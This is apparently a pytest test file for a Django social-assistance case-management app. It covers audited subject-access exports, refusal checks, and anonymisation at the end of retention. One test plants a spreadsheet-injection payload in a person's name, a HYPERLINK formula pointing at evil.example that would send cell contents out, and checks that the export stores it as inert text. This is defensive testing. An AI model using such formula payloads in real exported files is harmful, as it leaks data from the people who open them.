"""Data rights: a person's full record for an access request (audited, in reach only), and
anonymisation at the end of retention that keeps counts and amounts."""
import datetime
import io
import json
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.utils import timezone

from casemgmt.core.errors import OutOfReachError
from casemgmt.core.models import AuditEvent
from casemgmt.security.services import family_anonymise, subject_access_export
from families.models import AssistanceEnrollment, ConsentRecord, Family, FamilyMember
from families.retention import families_anonymise_expired
from services.models import Disbursement, Fund, HealthCheckup

BANK = "6222020200112233445"


@pytest.fixture
def mother(families, people):
    member = families["own"].members.get(relation="mother")
    AssistanceEnrollment.objects.create(member=member, family=member.family, bank_name="农商银行", bank_account=BANK,
                                        status="approved")
    ConsentRecord.objects.create(family=member.family, member=member, purpose="contact_sms", recorded_by=people["alice"])
    return member


def test_full_export_of_one_person_is_audited(people, mother):
    name, data = subject_access_export(actor=people["manager"], person=mother, fmt="json", reason="申请-2026-01")
    record = json.loads(data)
    assert record["families.familymember"][0]["id_number"] == mother.id_number
    assert record["families.assistanceenrollment"][0]["bank_account"] == BANK
    assert record["families.consentrecord"][0]["purpose"] == "contact_sms"
    assert record["families.family"][0]["file_number"] == "ZP-0001"
    event = AuditEvent.objects.get(event="security.subject_access.exported")
    assert event.reason == "申请-2026-01" and event.object_ids == [mother.pk] and event.family_id == mother.family_id
    name, data = subject_access_export(actor=people["manager"], person=mother, fmt="xlsx", reason="申请-2026-01")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert {"familymember", "assistanceenrollment", "consentrecord"} <= set(book.sheetnames)


def test_a_persons_workbook_carries_no_live_formula(people, mother):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    mother.name = formula
    mother.save()
    _name, data = subject_access_export(actor=people["manager"], person=mother, fmt="xlsx", reason="申请-2026-02")
    sheet = openpyxl.load_workbook(io.BytesIO(data))["familymember"]
    headings = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headings.index("name") + 1)
    assert cell.value == formula and cell.data_type == "s"


def test_export_refused_out_of_reach_and_for_other_roles(people, mother):
    with pytest.raises(OutOfReachError):
        subject_access_export(actor=people["other_manager"], person=mother, reason="x")
    with pytest.raises(PermissionDenied):
        subject_access_export(actor=people["alice"], person=mother, reason="x")
    assert not AuditEvent.objects.filter(event="security.subject_access.exported").exists()


def test_anonymisation_masks_people_and_keeps_statistics(people, regions, families, mother):
    family = families["own"]
    fund = Fund.objects.create(name="慰问金", programme="consolation", year=2026, budget=Decimal("1000"),
                               region=regions["zhangpu"])
    Disbursement.objects.create(fund=fund, kind="other", amount=Decimal("500"), family=family,
                                paid_on=timezone.localdate())
    checkup = HealthCheckup.objects.create(member=mother, date=timezone.localdate(), provider="县医院",
                                           findings="血压偏高")
    birth_year = mother.birth_date.year
    family_anonymise(actor=people["root"], family=family, reason="保存期满")
    members = list(FamilyMember.objects.filter(family=family))
    assert len(members) == 2
    for member in members:
        assert "王秀英" not in member.name and "李建国" not in member.name
        assert member.id_number == "" and member.id_number_index == "" and member.phone == "" and member.phone_index == ""
    again = FamilyMember.objects.get(pk=mother.pk)
    assert again.birth_date.year == birth_year and again.relation == "mother"
    enrollment = AssistanceEnrollment.objects.get(member=mother)
    assert enrollment.bank_account == "" and enrollment.status == "approved"
    assert Disbursement.objects.get(family=family).amount == Decimal("500")
    checkup.refresh_from_db()  # the services app's part of the erasure
    assert checkup.findings == "" and checkup.provider == "县医院"
    assert Family.objects.get(pk=family.pk).address == ""
    assert AuditEvent.objects.filter(event="security.family.anonymised", family_id=family.pk).exists()
    with pytest.raises(PermissionDenied):
        family_anonymise(actor=people["manager"], family=families["colleague"], reason="x")


def test_only_families_past_retention_are_anonymised(settings, families):
    settings.FAMILY_RETENTION_YEARS = 5
    old, recent = families["own"], families["colleague"]
    Family.objects.filter(pk=old.pk).update(status="closed",
                                            status_changed_at=timezone.now() - datetime.timedelta(days=6 * 365))
    Family.objects.filter(pk=recent.pk).update(status="closed", status_changed_at=timezone.now())
    assert families_anonymise_expired(dry_run=True) == [Family.objects.get(pk=old.pk)]
    assert FamilyMember.objects.filter(family=old, id_number_index="").count() == 0
    families_anonymise_expired()
    assert FamilyMember.objects.filter(family=old, id_number_index="").count() == 2
    assert FamilyMember.objects.filter(family=recent).exclude(id_number_index="").count() == 2
    assert families_anonymise_expired() == []  # done once


def test_the_export_command_names_the_kinds_of_person_the_apps_declare(people, mother, tmp_path):
    from django.core.management import CommandError, call_command

    out = io.StringIO()
    call_command("subject_access_export", "--member", str(mother.pk), "--actor", people["manager"].username,
                 "--reason", "申请-2026-03", "--output", str(tmp_path), stdout=out)
    written = json.loads((tmp_path / f"familymember-{mother.pk}.json").read_text())
    assert written["families.family"][0]["file_number"] == "ZP-0001"
    assert out.getvalue().strip().endswith(f"familymember-{mother.pk}.json")
    with pytest.raises(CommandError, match="No such person"):
        call_command("subject_access_export", "--volunteer", "999999", "--actor", people["manager"].username,
                     "--reason", "x", "--output", str(tmp_path))
